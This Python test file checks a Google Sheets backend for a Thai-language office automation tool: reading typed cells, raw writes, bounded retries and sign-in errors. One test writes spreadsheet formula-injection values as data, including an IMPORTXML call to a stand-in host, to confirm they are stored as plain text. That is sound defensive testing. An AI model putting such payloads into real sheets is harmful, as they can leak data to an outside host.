"""The Google Sheets backend through real gspread and google-auth against the Sheets v4 fake:
sign-in problems, reading, raw writes, request economy and bounded retry."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from google.oauth2.credentials import Credentials as UserCredentials

from automation import cli
from automation.config import SheetsConfig
from automation.errors import SheetError
from automation.model import CellWrite
from automation.sources.google import GoogleSheet
from automation.sources.google_auth import login
from automation.sources.google_errors import explain
from automation.sources.retry import Retrier, RetryPolicy
from automation.thaidate import parse_date, parse_datetime
from tests.fakes.sheets_api import FakeSheetsAPI, FakeSpreadsheet, Formula, make_client
from tests.sheet_driver import (
    SERVICE_ACCOUNT,
    TokenEndpoint,
    connect,
    oauth_token,
    service_account_key,
)

SHEET_ID = "1AbCdEf-office-pr-sheet"
FORM = "การตอบแบบฟอร์ม 1"
ODD = "ข่าว'68 (สำรอง)"  # a quote, parentheses and a space in a Thai tab name
HEADER = ["ประทับเวลา", "ที่อยู่อีเมล", "เบอร์โทรศัพท์", "หัวข้อข่าว", "อนุมัติ", "วันที่จัดกิจกรรม"]


class Clock:
    """Time that moves only when the retrier sleeps, so retry tests take no real time."""

    def __init__(self) -> None:
        self.now = 0.0
        self.sleeps: list[float] = []

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def api() -> FakeSheetsAPI:
    fake = FakeSheetsAPI()
    fake.strict_grid_limits = True
    return fake


@pytest.fixture
def book(api: FakeSheetsAPI) -> FakeSpreadsheet:
    return api.add_spreadsheet(SHEET_ID, tabs={
        FORM: [
            HEADER,
            [dt.datetime(2026, 11, 24, 14, 5, 33), "school@example.test", "0812345678",
             "กีฬาสี", True, dt.date(2026, 11, 20)],
            [],
            [dt.datetime(2026, 11, 25, 9, 0), "other@example.test", 812345678, "ค่าย",
             False, "20 พ.ย. 2569"],
        ],
        ODD: [["อีเมล", "เหตุผล"]],
    })


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def sheet(api: FakeSheetsAPI, book: FakeSpreadsheet, clock: Clock) -> GoogleSheet:
    retrier = Retrier(RetryPolicy(budget=60), sleep=clock.sleep, clock=clock, seed=1)
    return GoogleSheet(make_client(api), SHEET_ID, account=SERVICE_ACCOUNT, retry=retrier)


# ----------------------------------------------------------------------- reading


def test_read_keeps_types_people_rely_on(sheet: GoogleSheet, api: FakeSheetsAPI) -> None:
    tab = sheet.read([FORM])[FORM]
    assert tab.rows[0] == HEADER
    first, blank, second = tab.rows[1:]
    assert first[2] == "0812345678"  # typed as text: the leading zero stays
    assert first[4] is True and second[4] is False  # checkboxes are booleans
    assert parse_datetime(first[0]) == dt.datetime(2026, 11, 24, 14, 5, 33,
                                                   tzinfo=parse_datetime(first[0]).tzinfo)
    assert parse_date(first[5]) == dt.date(2026, 11, 20)  # serial in the sheet's zone
    assert parse_date(second[5]) == dt.date(2026, 11, 20)  # Thai text typed by hand
    assert blank == []
    assert second[2] == 812345678  # a number stays a number; the core restores the zero
    assert [c.kind for c in api.calls] == ["values_batch_get"]
    params = api.calls[0].params
    assert params["valueRenderOption"] == ["UNFORMATTED_VALUE"]
    assert params["dateTimeRenderOption"] == ["SERIAL_NUMBER"]


def test_all_tabs_in_one_request(sheet: GoogleSheet, api: FakeSheetsAPI) -> None:
    tabs = sheet.read([FORM, ODD])
    assert tabs[ODD].rows == [["อีเมล", "เหตุผล"]]
    assert api.count() == 1 and sheet.requests == 1
    assert api.calls[0].params["ranges"] == [f"'{FORM}'", "'ข่าว''68 (สำรอง)'"]


def test_renamed_tab_is_named_with_the_tabs_present(
    sheet: GoogleSheet, book: FakeSpreadsheet
) -> None:
    book.tab(FORM).title = "Form Responses 1"
    with pytest.raises(SheetError) as err:
        sheet.read([FORM, ODD])
    text = str(err.value)
    assert f"'{FORM}'" in text and "'Form Responses 1'" in text and "[sheets.tabs]" in text
    assert not err.value.transient


# ----------------------------------------------------------------------- writing


def test_writes_are_raw_text_in_one_request(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    hostile = ["=IMPORTXML(\"https://evil.example.test\",\"//a\")", "+66812345678",
               "'quoted", "-5", "@SUM(A1)", "บรรทัดแรก\r\nบรรทัดสอง\rสาม\nสี่"]
    writes = [CellWrite(FORM, 2 + i, 7, v) for i, v in enumerate(hostile)]
    writes += [CellWrite(FORM, 1, 7, "ผลการส่ง"), CellWrite(FORM, 4, 4, None)]
    sheet.write(writes)
    assert api.count("values_batch_update") == 1 and api.count() == 1
    body = api.calls[0].body
    assert body["valueInputOption"] == "RAW"
    # a whole column of rows 1..7 is one range; the cleared cell is another
    assert [d["range"] for d in body["data"]] == [f"'{FORM}'!D4", f"'{FORM}'!G1:G7"]
    tab = book.tab(FORM)
    for i, value in enumerate(hostile):
        stored = tab.cell(2 + i, 7)
        assert type(stored) is str and stored == value
    assert not any(isinstance(v, Formula) for row in tab.rows for v in row)
    assert tab.cell(4, 4) == ""
    back = sheet.read([FORM])[FORM].rows
    assert [back[1 + i][6] for i in range(len(hostile))] == hostile


def test_thai_tab_with_quote_round_trips(sheet: GoogleSheet, book: FakeSpreadsheet) -> None:
    sheet.append(ODD, [["a@example.test", "ยกเลิกรับข่าว", dt.date(2026, 11, 25)]])
    sheet.write([CellWrite(ODD, 2, 4, "=1+1")])
    rows = sheet.read([ODD])[ODD].rows
    assert rows[1] == ["a@example.test", "ยกเลิกรับข่าว", "25 พฤศจิกายน 2569", "=1+1"]
    assert parse_date(rows[1][2]) == dt.date(2026, 11, 25)


def test_new_column_beyond_the_grid_grows_it(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    tab = book.tab(FORM)
    tab.column_count = 6  # a form tab sized exactly to its questions
    sheet.write([CellWrite(FORM, 1, 7, "รหัสข่าว"), CellWrite(FORM, 2, 7, "N-0001")])
    assert tab.cell(1, 7) == "รหัสข่าว" and tab.cell(2, 7) == "N-0001"
    kinds = [c.kind for c in api.calls]
    assert kinds == ["values_batch_update", "metadata", "batch_update", "values_batch_update"]
    api.reset_counts()
    sheet.write([CellWrite(FORM, 4, 7, "N-0002")])
    assert api.count() == 1  # the grid is known now


def test_replace_creates_then_rewrites_with_one_metadata_read(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    sheet.replace("สรุปผล", [["ตัวชี้วัด", "ค่า"], ["ข่าวที่เผยแพร่", 12], ["=2+2", "a\nb"]])
    sheet.replace("สรุปผล", [["ตัวชี้วัด", "ค่า"], ["ข่าวที่เผยแพร่", 13]])
    rows = sheet.read(["สรุปผล"])["สรุปผล"].rows
    assert rows == [["ตัวชี้วัด", "ค่า"], ["ข่าวที่เผยแพร่", 13]]
    kinds = [c.kind for c in api.calls]
    assert kinds.count("metadata") == 1
    assert kinds[:3] == ["metadata", "batch_update", "values_update"]
    assert kinds[3:5] == ["values_clear", "values_update"]
    assert book.tab("สรุปผล").frozen_row_count == 1


# ----------------------------------------------------------------------- bounded retry


def test_quota_error_waits_as_told_then_succeeds(
    sheet: GoogleSheet, api: FakeSheetsAPI, clock: Clock
) -> None:
    api.retry_after = 7
    api.inject([429, 502, "timeout"])
    sheet.read([FORM])
    assert api.count() == 4 and sheet.requests == 4  # retries are counted too
    assert clock.sleeps[0] >= 7
    assert all(s <= 32 for s in clock.sleeps[1:])


def test_gives_up_within_the_budget(sheet: GoogleSheet, api: FakeSheetsAPI, clock: Clock) -> None:
    api.inject([503] * 100)
    with pytest.raises(SheetError) as err:
        sheet.read([FORM])
    assert err.value.transient
    assert "รอบถัดไป" in str(err.value)
    assert sum(clock.sleeps) <= 60
    assert 3 <= api.count() <= 10


def test_retry_after_longer_than_the_budget_stops_at_once(
    sheet: GoogleSheet, api: FakeSheetsAPI, clock: Clock
) -> None:
    api.retry_after = 600
    api.inject([429])
    with pytest.raises(SheetError) as err:
        sheet.read([FORM])
    assert err.value.transient and clock.sleeps == [] and api.count() == 1


def test_permanent_errors_are_not_retried(sheet: GoogleSheet, api: FakeSheetsAPI) -> None:
    api.inject([400])
    with pytest.raises(SheetError) as err:
        sheet.read([FORM])
    assert not err.value.transient and api.count() == 1


def test_write_that_timed_out_after_landing_is_repeated_harmlessly(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    api.inject(["timeout_after"], only=["values_batch_update"])
    sheet.write([CellWrite(FORM, 2, 7, "เผยแพร่แล้ว")])
    assert book.tab(FORM).cell(2, 7) == "เผยแพร่แล้ว"
    assert api.count("values_batch_update") == 2


@pytest.mark.parametrize("fault", ["timeout_after", 500, "conn"])
def test_append_is_never_doubled_by_a_retry(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet, fault: object
) -> None:
    api.inject([fault], only=["values_append"])
    sheet.append(ODD, [["x@example.test", "ตีกลับ"]])
    emails = [r[0] for r in book.tab(ODD).rows[1:] if r]
    assert emails == ["x@example.test"]


def test_append_after_429_is_sent_again_without_checking(
    sheet: GoogleSheet, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    api.inject([429], only=["values_append"])
    sheet.append(ODD, [["y@example.test", "ยกเลิกรับข่าว"]])
    assert [c.kind for c in api.calls] == ["values_append", "values_append"]
    assert book.tab(ODD).rows[1][:2] == ["y@example.test", "ยกเลิกรับข่าว"]


# ----------------------------------------------------------------------- access problems


def _sheets(**values: object) -> SheetsConfig:
    return SheetsConfig(backend="google", spreadsheet_id=SHEET_ID, timeout=5.0, **values)  # type: ignore[arg-type]


def _connected(sheets: SheetsConfig, api: FakeSheetsAPI, token: TokenEndpoint) -> GoogleSheet:
    backend = GoogleSheet.from_config(sheets)
    connect(backend, api, token)
    return backend


def test_service_account_from_environment(
    tmp_path: Path, api: FakeSheetsAPI, book: FakeSpreadsheet, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = service_account_key(tmp_path / "key.json")
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key))
    token = TokenEndpoint()
    backend = _connected(_sheets(), api, token)
    assert backend.account == SERVICE_ACCOUNT
    backend.read([FORM])
    backend.read([FORM])
    assert token.calls == 1  # one access token serves the process
    assert api.count() == 2


def _error(call: Callable[[], object]) -> str:
    with pytest.raises(SheetError) as err:
        call()
    assert not err.value.transient
    return str(err.value)


def test_pasted_address_is_read_as_the_id(
    tmp_path: Path, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    url = f"https://docs.google.com/spreadsheets/d/{SHEET_ID}/edit#gid=0"
    sheets = _sheets(credentials=service_account_key(tmp_path / "k.json"))
    backend = _connected(replace(sheets, spreadsheet_id=url), api, TokenEndpoint())
    assert backend.spreadsheet_id == SHEET_ID
    assert backend.read([FORM])[FORM].rows[0] == HEADER


def test_no_key_configured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    text = _error(lambda: GoogleSheet.from_config(_sheets()))
    assert "'sheets.credentials'" in text and "GOOGLE_APPLICATION_CREDENTIALS" in text


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (None, "ไม่พบไฟล์กุญแจ"),
        ("not json {", "ไม่ใช่ JSON"),
        (json.dumps({"installed": {"client_id": "x"}}), 'sheets.auth = "oauth"'),
        (json.dumps({"type": "service_account", "client_email": "a@b"}), "private_key"),
        ("example", "ค่าตัวอย่าง"),
    ],
)
def test_unusable_key_files(tmp_path: Path, content: str | None, expected: str) -> None:
    key = tmp_path / "key.json"
    if content == "example":
        key = Path(__file__).parent.parent / "credentials.example.json"
    elif content is not None:
        key.write_text(content, encoding="utf-8")
    text = _error(lambda: GoogleSheet.from_config(_sheets(credentials=key)))
    assert expected in text and str(key) in text


def test_sheet_not_shared_names_the_account_to_share_with(
    tmp_path: Path, api: FakeSheetsAPI, book: FakeSpreadsheet
) -> None:
    book.shared = False
    backend = _connected(_sheets(credentials=service_account_key(tmp_path / "k.json")), api,
                         TokenEndpoint())
    text = _error(lambda: backend.read([FORM]))
    assert SERVICE_ACCOUNT in text and "แชร์" in text and SHEET_ID in text


def test_viewer_only_cannot_write(sheet: GoogleSheet, book: FakeSpreadsheet) -> None:
    book.can_edit = False
    sheet.read([FORM])
    text = _error(lambda: sheet.write([CellWrite(FORM, 2, 7, "x")]))
    assert "มีสิทธิ์เพียงดู" in text and SERVICE_ACCOUNT in text and "ผู้แก้ไข" in text


def test_wrong_spreadsheet_id(api: FakeSheetsAPI, book: FakeSpreadsheet) -> None:
    backend = GoogleSheet(make_client(api), "1WrongIdTypedByHand", account=SERVICE_ACCOUNT)
    text = _error(lambda: backend.read([FORM]))
    assert "1WrongIdTypedByHand" in text and "'sheets.spreadsheet_id'" in text


def test_key_refused_by_google(tmp_path: Path, api: FakeSheetsAPI, book: FakeSpreadsheet) -> None:
    backend = _connected(_sheets(credentials=service_account_key(tmp_path / "k.json")), api,
                         TokenEndpoint(error="invalid_grant"))
    text = _error(lambda: backend.read([FORM]))
    assert SERVICE_ACCOUNT in text and "สร้างกุญแจใหม่" in text
    assert api.count() == 0


def test_api_not_enabled_message() -> None:
    message = ("Google Sheets API has not been used in project 123 before or it is disabled. "
               "Enable it by visiting https://console.developers.google.com/apis/api/...")
    text = str(explain(403, message, "อ่านชีต", False, SHEET_ID, SERVICE_ACCOUNT))
    assert "Google Sheets API" in text and "Enable" in text


def test_oauth_without_token_says_how_to_sign_in(tmp_path: Path) -> None:
    sheets = _sheets(auth="oauth", oauth_token=tmp_path / "token.json")
    assert "automation google-login" in _error(lambda: GoogleSheet.from_config(sheets))


def test_oauth_with_stored_token(tmp_path: Path, api: FakeSheetsAPI, book: FakeSpreadsheet) -> None:
    token = TokenEndpoint()
    sheets = _sheets(auth="oauth", oauth_token=oauth_token(tmp_path / "token.json"))
    backend = _connected(sheets, api, token)
    assert backend.account is None
    assert backend.read([FORM])[FORM].rows[0] == HEADER
    assert token.calls == 1


def test_login_stores_the_token_of_the_installed_app_flow(tmp_path: Path) -> None:
    client = tmp_path / "client.json"
    client.write_text(json.dumps({"installed": {
        "client_id": "123-desktop.apps.googleusercontent.com", "client_secret": "s",
        "auth_uri": "https://accounts.google.com/o/oauth2/auth",
        "token_uri": "https://oauth2.googleapis.com/token",
    }}), encoding="utf-8")
    seen: dict[str, object] = {}

    def browser_flow(client_config: dict[str, object], scopes: list[str]) -> UserCredentials:
        seen.update(client_config=client_config, scopes=scopes)
        return UserCredentials(  # type: ignore[no-untyped-call]
            token="ya29.x", refresh_token="1//r", client_secret="s",
            client_id="123-desktop.apps.googleusercontent.com",
            token_uri="https://oauth2.googleapis.com/token", scopes=scopes,
        )

    sheets = _sheets(auth="oauth", credentials=client, oauth_token=tmp_path / "t" / "token.json")
    path = login(sheets, flow=browser_flow)
    stored = json.loads(path.read_text())
    assert stored["refresh_token"] == "1//r" and "token" not in stored
    assert seen["scopes"] == ["https://www.googleapis.com/auth/spreadsheets"]
    assert path.stat().st_mode & 0o077 == 0
    GoogleSheet.from_config(sheets)  # the stored token is accepted


def test_cli_reports_a_missing_key_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nope.json"
    code = cli.main(["--config", str(tmp_path / "none.toml"), "init", "--google", SHEET_ID,
                     "--credentials", str(missing)])
    err = capsys.readouterr().err
    assert code == 1
    assert str(missing) in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
